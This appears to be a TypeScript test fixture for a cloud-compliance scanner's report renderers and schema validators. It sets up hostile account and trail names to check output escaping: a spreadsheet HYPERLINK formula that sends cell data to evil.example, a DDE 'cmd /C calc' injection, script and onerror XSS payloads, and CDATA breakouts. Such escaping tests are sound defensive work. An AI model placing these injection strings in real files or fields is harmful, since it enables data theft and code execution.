// Findings for the machine-format tests, produced by really evaluating a snapshot: the compliant
// base organization with overlays that make some rules FAIL, some ERROR (a fact not collected),
// and names an attacker could choose (account and trail names) full of formula, Markdown, HTML
// and XML metacharacters.
import { readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormatsModule from 'ajv-formats';
import { validateXML } from 'xmllint-wasm';
import { evaluateSnapshot, prepare, type InMemoryOutcome as Outcome } from '../../src/core/pipeline.js';
import type { RenderInput } from '../../src/report/formats/index.js';
import { applyOverlay, baseSnapshot, EVALUATION_NOW } from '../harness/fixture.js';

export const TRAIL_ARN = 'arn:aws:cloudtrail:us-east-1:111111111111:trail/org-trail';
const LOG_GROUP_ARN = 'arn:aws:logs:us-east-1:111111111111:log-group:org-trail:*';

/** Every character class the renderers must neutralize or escape. */
export const HOSTILE_ACCOUNT_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click") | <img src=x onerror=alert(1)> @octocat ]]> \u0001\u0008 end';
export const HOSTILE_TRAIL_NAME = '+cmd|\' /C calc\'!A0 ]]><script>alert(1)</script> `x` *y* [z](http://e) \uFFFE';
export const MINUS_ACCOUNT_NAME = '-2+3';
export const AT_ACCOUNT_NAME = '@SUM(1+1)';

/** logs:DescribeMetricFilters denied: every monitoring rule is ERROR, never PASS. */
export const METRIC_FILTERS_NOT_COLLECTED = {
  logGroups: [{ arn: LOG_GROUP_ARN, metricFilters: null, alarms: null }],
  errors: [
    {
      accountId: '111111111111',
      region: 'us-east-1',
      resource: { type: 'log-group', id: LOG_GROUP_ARN },
      facts: ['logGroup.metricFilters', 'logGroup.alarms'],
      service: 'logs',
      operation: 'DescribeMetricFilters',
      code: 'AccessDeniedException',
      message: 'not authorized to perform: logs:DescribeMetricFilters',
    },
  ],
};

export const OVERLAY = {
  accounts: [
    { id: '333333333333', name: HOSTILE_ACCOUNT_NAME },
    { id: '222222222222', name: MINUS_ACCOUNT_NAME },
    { id: '111111111111', name: AT_ACCOUNT_NAME },
  ],
  trails: [{ arn: TRAIL_ARN, name: HOSTILE_TRAIL_NAME, logFileValidationEnabled: false }],
  ...METRIC_FILTERS_NOT_COLLECTED,
};

export async function evaluatedFixture(overlay: unknown = OVERLAY): Promise<Outcome> {
  const prepared = await prepare({}, process.cwd());
  return evaluateSnapshot(applyOverlay(baseSnapshot(), overlay), prepared, undefined, EVALUATION_NOW);
}

/** The outcome with one FAIL waived, as the waivers step would hand it to the renderers. */
export function withWaiver(outcome: Outcome, ruleId: string): RenderInput {
  const report = structuredClone(outcome.report);
  const target = report.findings.find((f) => f.status === 'FAIL' && f.ruleId === ruleId);
  if (!target) throw new Error(`no FAIL of ${ruleId} to waive`);
  target.waiver = { reason: 'accepted <risk> | see TICKET-1', owner: 'sec@example.com', expires: '2027-01-31' };
  return { report, snapshot: outcome.snapshot, rules: outcome.rules };
}

const addFormats = addFormatsModule as unknown as (ajv: Ajv2020) => Ajv2020;
const schema = (name: string) => JSON.parse(readFileSync(new URL(`../schemas/${name}`, import.meta.url), 'utf8')) as Record<string, unknown>;

/**
 * Ajv 2020-12 with format checking (date-time, uri, uri-reference are asserted, not ignored).
 * Patterns written `^(?i)...` (the SARIF schema's language tags) use an inline flag that
 * ECMAScript lacks; they are compiled with the `i` flag instead, which is what they mean.
 */
function strictAjv(): Ajv2020 {
  const engine = (pattern: string, flags: string) =>
    pattern.startsWith('^(?i)') ? new RegExp(`^${pattern.slice(5)}`, `${flags}i`) : new RegExp(pattern, flags);
  const regExp = Object.assign(engine, { code: 'new RegExp' });
  return addFormats(new Ajv2020({ allErrors: true, strict: false, code: { regExp } }));
}

/**
 * The official SARIF 2.1.0 schema (test/schemas/sarif-schema-2.1.0.json, byte for byte as the
 * OASIS TC publishes it). One upstream defect is corrected in memory before compiling:
 * `region.anyOf` sits inside `properties` (so it would be a property named "anyOf"); the OASIS
 * errata01 schema has it on `region` itself, requiring startLine, charOffset or byteOffset.
 */
function sarifSchema(): Record<string, unknown> {
  const sarif = schema('sarif-schema-2.1.0.json') as { definitions: { region: { anyOf?: unknown; properties: Record<string, unknown> } } };
  const region = sarif.definitions.region;
  if (region.properties.anyOf) {
    region.anyOf = region.properties.anyOf;
    delete region.properties.anyOf;
  }
  return sarif as unknown as Record<string, unknown>;
}

type Validate = (text: string) => string[];

function jsonValidator(json: Record<string, unknown>): Validate {
  const ajv = strictAjv();
  const validate = ajv.compile(json);
  return (text) => (validate(JSON.parse(text)) ? [] : (validate.errors ?? []).map((e) => `${e.instancePath || '(root)'} ${e.message ?? ''}`));
}

export const validateSarif = jsonValidator(sarifSchema());
export const validateOcsf = jsonValidator(schema('ocsf-compliance-finding.schema.json'));
export const validateAsff = jsonValidator(schema('asff-finding.schema.json'));

const JUNIT_XSD = readFileSync(new URL('../schemas/junit-10.xsd', import.meta.url), 'utf8');

/** libxml2 (xmllint, compiled to WebAssembly) validating against the Jenkins xunit JUnit XSD. */
export async function validateJunit(xml: string): Promise<string[]> {
  const result = await validateXML({ xml: [{ fileName: 'report.junit.xml', contents: xml }], schema: [JUNIT_XSD], maxMemoryPages: 4096 });
  return result.valid ? [] : result.errors.map((e) => e.rawMessage);
}
